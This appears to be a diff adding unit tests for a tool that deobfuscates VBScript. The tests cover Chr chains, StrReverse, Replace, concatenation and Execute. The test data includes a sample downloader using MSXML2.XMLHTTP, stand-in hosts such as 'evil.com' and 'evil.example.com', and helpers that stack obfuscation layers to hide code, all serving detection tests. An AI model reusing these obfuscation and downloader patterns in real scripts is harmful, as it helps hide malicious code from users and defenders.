@@ -1,0 +1,228 @@
+"""VBScript peelers: Chr() chains, StrReverse, Replace, concatenation and Execute."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.unit.scripts.test_peelers_languages import (
+    URL,
+    Obfuscator,
+    assert_recovers,
+    peel_all,
+    rewrite,
+    run,
+    stack,
+    stacks,
+)
+from wingman.core.scripts.peelers.vbscript_syntax import chain_value, expression
+from wingman.core.scripts.types import Lang
+
+PAYLOAD = (
+    f'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{URL}", False\nx.Send\n\' fetched\n'
+)
+
+
+def execute(text: str) -> tuple[str, list[str]]:
+    return f"Execute {expression(text)}", ["vbs_execute"]
+
+
+def execute_global(text: str) -> tuple[str, list[str]]:
+    return f"ExecuteGlobal({expression(text)})", ["vbs_execute"]
+
+
+def chr_calls(text: str) -> tuple[str, list[str]]:
+    calls = [
+        f"Chr(&H{ord(char):X})" if index % 3 == 0 else f"ChrW({ord(char)})" if index % 3 else ""
+        for index, char in enumerate(text)
+    ]
+    calls = [call or f"Chr({ord(char)})" for call, char in zip(calls, text, strict=True)]
+    lines = [" & ".join(calls[index : index + 12]) for index in range(0, len(calls), 12)]
+    return "Execute " + " & _\n    ".join(lines), ["vbs_chr", "vbs_execute"]
+
+
+def reverse(text: str) -> tuple[str, list[str]]:
+    return f"Execute StrReverse({expression(text[::-1])})", ["vbs_strreverse", "vbs_execute"]
+
+
+def replace(text: str) -> tuple[str, list[str]]:
+    hidden = expression(text.replace("e", "~#"))
+    return f'Execute Replace({hidden}, "~#", "e")', ["vbs_replace", "vbs_execute"]
+
+
+def concat(text: str) -> tuple[str, list[str]]:
+    pieces = [expression(text[index : index + 8]) for index in range(0, len(text), 8)]
+    return "Execute " + " & ".join(pieces), ["vbs_concat", "vbs_execute"]
+
+
+def evaluate(text: str) -> tuple[str, list[str]]:
+    return f"x = Eval({expression(text)})", ["vbs_execute"]
+
+
+OBFUSCATORS: dict[str, Obfuscator] = {
+    "chr": chr_calls,
+    "strreverse": reverse,
+    "replace": replace,
+    "concat": concat,
+    "execute": execute,
+    "execute_global": execute_global,
+    "eval": evaluate,
+}
+_VISIBLE = {"execute", "execute_global", "eval"}
+
+
+@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
+def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
+    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
+    assert_recovers(text, Lang.VBSCRIPT, expected, hidden=not _VISIBLE.issuperset(names))
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("plain", '"plain"'),
+        ('say "hi"', '"say ""hi"""'),
+        ("a\r\nb\nc\rd", '"a" & vbCrLf & "b" & vbLf & "c" & vbCr & "d"'),
+        ("\n", "vbLf"),
+        ("", '""'),
+        ("nul\x00", '"nul" & Chr(0)'),
+    ],
+)
+def test_expression_round_trips(value: str, written: str) -> None:
+    assert expression(value) == written
+    resolved = chain_value(written, chars=True)
+    assert resolved is not None
+    assert resolved.value == value
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("s = Chr(87) & Chr(&H53) & ChrW(99)", 's = "WSc"'),
+        ('CreateObject(Chr(87) & "Script." & chrw(83) + "hell")', 'CreateObject("WScript.Shell")'),
+        ("x = Chr(72) & Chr(105) & vbCrLf", 'x = "Hi" & vbCrLf'),
+        ("x = Chr(100 - 3) & Chr(&O101) & ChrW(&HFFFF&)", 'x = "aA\uffff"'),
+        ("x = Chr(65 Xor 1)", 'x = "@"'),
+        ("x = ChrW(-1)", 'x = "\uffff"'),
+        ("x = Len(Chr(65) & Chr(66)) * 2", 'x = Len("AB") * 2'),
+        ("x = 2 * Chr(65) & Chr(66)", 'x = 2 * "A" & "B"'),
+    ],
+)
+def test_chr(text: str, expected: str) -> None:
+    assert rewrite("vbs_chr", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x = Chr(n)", "x = Chr(200)", "x = ChrW(70000)", "' Chr(65) & Chr(66)", 'x = "Chr(65)"'],
+)
+def test_chr_negative(text: str) -> None:
+    assert rewrite("vbs_chr", text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('x = StrReverse("olleh")', 'x = "hello"'),
+        ('x = strreverse("b" & vbLf & "a")', 'x = "a" & vbLf & "b"'),
+        ('x = StrReverse("b" & vbLf & "a") & "!"', 'x = "a" & vbLf & "b" & "!"'),
+        ('x = Len(StrReverse("b" & vbLf & "a"))', 'x = Len("a" & vbLf & "b")'),
+        ('x = 1 + StrReverse("b" & vbLf & "a")', 'x = 1 + ("a" & vbLf & "b")'),
+    ],
+)
+def test_strreverse(text: str, expected: str) -> None:
+    assert rewrite("vbs_strreverse", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text", ["x = StrReverse(y)", 'x = StrReverse("a" & y)', 'REM StrReverse("x")']
+)
+def test_strreverse_negative(text: str) -> None:
+    assert rewrite("vbs_strreverse", text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('x = Replace("hxxp://a", "xx", "tt")', 'x = "http://a"'),
+        ('x = Replace("aXbxc", "x", "-", 1, -1, 1)', 'x = "a-b-c"'),
+        ('x = Replace("aXbxc", "x", "-", 1, -1, vbBinaryCompare)', 'x = "aXb-c"'),
+        ('x = Replace("aaaa", "a", "b", 2, 2)', 'x = "bba"'),
+        ('x = Replace("abc", "", "z")', 'x = "abc"'),
+        ('x = Replace("abc", "b", "")', 'x = "ac"'),
+    ],
+)
+def test_replace(text: str, expected: str) -> None:
+    assert rewrite("vbs_replace", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['x = Replace(s, "a", "b")', 'x = Replace("abc", "a", b)', 'x = Replace("a", "a", "b", 0)'],
+)
+def test_replace_negative(text: str) -> None:
+    assert rewrite("vbs_replace", text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('u = "http://ev" & "il.com"', 'u = "http://evil.com"'),
+        ('u = "a" & _\n    "b" + "c"', 'u = "abc"'),
+        ('u = "a" & vbTab & "b"', 'u = "a\tb"'),
+        ('u = "a" & "b" & vbLf & "c"', 'u = "ab" & vbLf & "c"'),
+    ],
+)
+def test_concat(text: str, expected: str) -> None:
+    assert rewrite("vbs_concat", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'u = "a" & vbLf & "b"',
+        'u = "a" & b & "c"',
+        'u = x * "a" & "b"',
+        'u = "a" & "b".Length',
+        "u = 1",
+    ],
+)
+def test_concat_negative(text: str) -> None:
+    assert rewrite("vbs_concat", text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('Execute "MsgBox 1"', "MsgBox 1"),
+        ('ExecuteGlobal "Dim a" & vbCrLf & "a = ""x"""', 'Dim a\r\na = "x"'),
+        ('x = Eval("1 + 2")', "1 + 2"),
+        ('execute("WScript.Echo 1")', "WScript.Echo 1"),
+    ],
+)
+def test_execute(text: str, expected: str) -> None:
+    found = run("vbs_execute", text)
+    assert [(item.content, item.language) for item in found] == [(expected, Lang.VBSCRIPT)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Execute code",
+        'Execute "a" & "b"',
+        'Execute Chr(65) & "b"',
+        '\' Execute "MsgBox 1"',
+        'x = "Execute ""MsgBox 1"""',
+        'MyExecute "MsgBox 1"',
+        'Execute ""',
+    ],
+)
+def test_execute_negative(text: str) -> None:
+    assert run("vbs_execute", text) == []
+
+
+def test_downloader_peels_end_to_end() -> None:
+    text = 'Execute StrReverse("ebyhtap/moc.elpmaxe.live//:ptth"" = u")'
+    layers, stopped = peel_all(text, Lang.VBSCRIPT)
+    assert stopped is None
+    assert [layer.technique for layer in layers] == ["input", "vbs_strreverse", "vbs_execute"]
+    assert layers[-1].content == 'u = "http://evil.example.com/pathybe'
